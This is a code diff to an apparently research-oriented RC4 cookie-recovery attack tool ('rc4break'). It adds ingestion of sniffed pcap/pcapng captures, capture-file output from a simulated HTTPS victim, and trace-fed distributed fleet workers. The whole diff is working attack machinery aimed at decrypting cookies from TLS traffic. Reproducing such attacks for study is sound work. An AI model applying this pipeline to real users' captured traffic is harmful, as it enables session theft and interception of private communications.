@@ -38,6 +38,16 @@
 // confirms a cookie (see the fleet package):
 //
 //	cookieattack -fleet-worker coordinator:7100 -worker-id m1
+//
+// Trace mode ingests sniffed captures instead of simulating collection —
+// the §6.3 pipeline (TCP reassembly, TLS record scanning, fixed-size
+// request filtering) over pcap/pcapng files — and -write-pcap produces
+// such captures from the simulator (the round trip is pinned bitwise
+// against in-process capture):
+//
+//	cookieattack -write-pcap https.pcapng -ciphertexts 4194304 -seed 1
+//	cookieattack -pcap https.pcapng -ciphertexts 4194304 -checkpoint shard.snap -collect-only
+//	cookieattack -fleet-worker coordinator:7100 -pcap 'shard-*.pcap'   # serve exact lanes from trace shards
 package main
 
 import (
@@ -59,6 +69,7 @@ import (
 	"rc4break/internal/online"
 	"rc4break/internal/snapshot"
 	"rc4break/internal/tlsrec"
+	"rc4break/internal/trace"
 )
 
 func main() {
@@ -79,6 +90,8 @@ func main() {
 	maxPerRound := flag.Int("max-candidates-per-round", 0, "online: candidate list depth per decode round (0 = -candidates)")
 	fleetWorker := flag.String("fleet-worker", "", "join the cmd/fleetd coordinator at this address as a capture worker")
 	workerID := flag.String("worker-id", "", "fleet worker name (default hostname-pid)")
+	pcapIn := flag.String("pcap", "", "ingest record evidence from capture files (comma-separated paths/globs, pcap or pcapng; streamed, never slurped); with -fleet-worker, serve exact-mode lanes from the files")
+	writePcap := flag.String("write-pcap", "", "write the exact-mode victim stream (-ciphertexts records from -seed) as a capture file and exit (.pcapng extension selects pcapng, else classic pcap)")
 	jsonOut := flag.Bool("json", false, "append one machine-readable JSON result line to stdout")
 	flag.Parse()
 
@@ -106,8 +119,22 @@ func main() {
 	}
 	attack.Workers = *workers
 
+	if *writePcap != "" {
+		if err := writeCookiePcap(*writePcap, req, *seed, *ciphertexts); err != nil {
+			fatal(err)
+		}
+		return
+	}
+	var pcapPaths []string
+	if *pcapIn != "" {
+		pcapPaths, err = cliutil.ExpandGlobs(*pcapIn)
+		if err != nil {
+			fatal(fmt.Errorf("-pcap: %w", err))
+		}
+	}
+
 	if *fleetWorker != "" {
-		runFleetWorker(*fleetWorker, *workerID, attack.Fingerprint(), cfg, req, *secret, *workers)
+		runFleetWorker(*fleetWorker, *workerID, attack.Fingerprint(), cfg, req, *secret, *workers, pcapPaths)
 		return
 	}
 
@@ -131,6 +158,9 @@ func main() {
 		if *collectOnly || *merge != "" {
 			fatal(errors.New("-online composes with -checkpoint/-resume; -merge and -collect-only are offline-pool workflows"))
 		}
+		if pcapPaths != nil {
+			fatal(errors.New("-online captures live; -pcap is an offline/fleet ingest path"))
+		}
 		depth := *maxPerRound
 		if depth <= 0 {
 			depth = *candidates
@@ -145,14 +175,37 @@ func main() {
 	if *ciphertexts > attack.Records {
 		remaining = *ciphertexts - attack.Records
 	}
+	displayMode := *mode
+	if *pcapIn != "" {
+		displayMode = "trace"
+	}
 	fmt.Printf("[2/4] collecting %d ciphertexts (%s mode; %.1f h of traffic at %d req/s)...\n",
-		remaining, *mode, float64(remaining)/netsim.HTTPSRequestsPerSecond/3600,
+		remaining, displayMode, float64(remaining)/netsim.HTTPSRequestsPerSecond/3600,
 		netsim.HTTPSRequestsPerSecond)
 	start := time.Now()
 	streamID := snapshot.StreamInfo{Mode: *mode, Seed: *seed}
+	if pcapPaths != nil {
+		// A trace-fed shard's stream identity is the file set: resuming it
+		// skips the observations the snapshot already holds, and merging
+		// two ingests of the same files is rejected as double-counting.
+		streamID = snapshot.StreamInfo{Mode: "trace", Seed: cliutil.TraceStreamSeed(pcapPaths)}
+	}
 	switch {
 	case remaining == 0:
 		fmt.Println("      shard target already reached by resumed evidence")
+	case pcapPaths != nil:
+		if attack.Records > 0 && attack.Stream != streamID {
+			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, -pcap names a different capture set",
+				attack.Stream.Mode, attack.Stream.Seed))
+		}
+		attack.Stream = streamID
+		stats, err := cookieattack.CollectTraceFiles(attack, len(cfg.Plaintext)+tlsrec.MACSize,
+			pcapPaths, attack.Records, remaining, false)
+		if err != nil {
+			fatal(err)
+		}
+		fmt.Printf("      trace ingest: %d packets, %d TLS records (%d matched, %d other), %d flows abandoned\n",
+			stats.Packets, stats.Records, stats.Matched, stats.OtherRecords, stats.DeadFlows)
 	case *mode == "exact":
 		// An exact-mode shard can only be continued on its own cipher
 		// stream: the fast-forward below assumes the snapshot's records
@@ -228,7 +281,7 @@ func main() {
 	oracleTime := time.Since(start)
 	result := cliutil.RunResult{
 		Attack:       "cookie",
-		Mode:         *mode,
+		Mode:         displayMode,
 		Success:      err == nil,
 		Rank:         rank,
 		Observations: attack.Records,
@@ -266,10 +319,11 @@ func emitJSON(enabled bool, r cliutil.RunResult) {
 // lanes until the coordinator declares the run over. Model-mode lanes draw
 // their sufficient statistics from the lane's derived seed; exact-mode
 // lanes replay the victim stream from the lane's absolute offset (the
-// victim's cipher stream is fast-forwarded at raw PRGA speed), so every
-// lane is a pure function of the job and re-captures after a lease expiry
-// are byte-identical.
-func runFleetWorker(addr, id string, fp [16]byte, cfg cookieattack.Config, req httpmodel.Request, secret string, workers int) {
+// victim's cipher stream is fast-forwarded at raw PRGA speed) — or, when
+// -pcap names trace shards, carve the lane's observation range out of the
+// files. Every lane is a pure function of the job, so re-captures after a
+// lease expiry are byte-identical.
+func runFleetWorker(addr, id string, fp [16]byte, cfg cookieattack.Config, req httpmodel.Request, secret string, workers int, pcapPaths []string) {
 	w := &fleet.Worker{
 		Addr:        addr,
 		ID:          id,
@@ -277,7 +331,7 @@ func runFleetWorker(addr, id string, fp [16]byte, cfg cookieattack.Config, req h
 		Fingerprint: fp,
 		Logf:        cliutil.IndentLogf,
 		Collect: func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
-			a, err := collectCookieLane(cfg, req, secret, job, lease, workers)
+			a, err := collectCookieLane(cfg, req, secret, job, lease, workers, pcapPaths)
 			if err != nil {
 				return nil, err
 			}
@@ -304,9 +358,12 @@ func runFleetWorker(addr, id string, fp [16]byte, cfg cookieattack.Config, req h
 
 // collectCookieLane captures one leased lane into a fresh evidence
 // accumulator stamped with the lane's stream identity.
-func collectCookieLane(cfg cookieattack.Config, req httpmodel.Request, secret string, job fleet.JobSpec, lease fleet.Lease, workers int) (*cookieattack.Attack, error) {
+func collectCookieLane(cfg cookieattack.Config, req httpmodel.Request, secret string, job fleet.JobSpec, lease fleet.Lease, workers int, pcapPaths []string) (*cookieattack.Attack, error) {
 	switch job.Mode {
 	case "model":
+		if pcapPaths != nil {
+			return nil, errors.New("-pcap serves exact-mode jobs: a trace is one concrete capture stream, not a statistical model")
+		}
 		return cookieattack.CollectLane(cfg, []byte(secret), lease.Stream,
 			cliutil.LaneSeed(job.Seed, lease.Lane), lease.Records, workers)
 	case "exact":
@@ -316,6 +373,18 @@ func collectCookieLane(cfg cookieattack.Config, req httpmodel.Request, secret st
 		}
 		a.Workers = workers
 		a.Stream = lease.Stream
+		if pcapPaths != nil {
+			// Serve the lane from the trace shards: the files concatenate
+			// into one logical stream, and the lane's observation range is
+			// carved out strictly — a shard set that cannot cover the lane
+			// fails loudly rather than uploading short evidence.
+			_, err := cookieattack.CollectTraceFiles(a, len(cfg.Plaintext)+tlsrec.MACSize,
+				pcapPaths, lease.Start, lease.Records, true)
+			if err != nil {
+				return nil, err
+			}
+			return a, nil
+		}
 		master := make([]byte, 48)
 		rand.New(rand.NewSource(job.Seed)).Read(master)
 		victim, err := netsim.NewHTTPSVictim(master, req)
@@ -512,6 +581,43 @@ func collectExact(attack *cookieattack.Attack, req httpmodel.Request, remaining 
 	}
 	fmt.Printf("      scanner matched %d records, dropped %d other\n",
 		collector.Matched, collector.Other)
+}
+
+// writeCookiePcap writes n records of the seed-derived exact-mode victim
+// stream as a capture file — the sim → pcap half of the round trip, and
+// the way trace shards for offline or fleet ingest are produced. The
+// extension picks the container: .pcapng writes pcapng, anything else
+// classic pcap.
+func writeCookiePcap(path string, req httpmodel.Request, seed int64, n uint64) error {
+	master := make([]byte, 48)
+	rand.New(rand.NewSource(seed)).Read(master)
+	victim, err := netsim.NewHTTPSVictim(master, req)
+	if err != nil {
+		return err
+	}
+	pw, done, err := trace.CreateFile(path, trace.LinkTypeEthernet)
+	if err != nil {
+		return err
+	}
+	sw, err := netsim.NewStreamWriter(pw, trace.LinkTypeEthernet)
+	if err != nil {
+		done()
+		return err
+	}
+	fmt.Printf("[2/2] writing %d records of the exact victim stream (seed %d) -> %s\n", n, seed, path)
+	if err := victim.WriteTrace(sw, n); err != nil {
+		done()
+		return err
+	}
+	if err := done(); err != nil {
+		return err
+	}
+	info, err := os.Stat(path)
+	if err != nil {
+		return err
+	}
+	fmt.Printf("      %d records, %.1f MB\n", n, float64(info.Size())/(1<<20))
+	return nil
 }
 
 func minInt(xs []int) int {
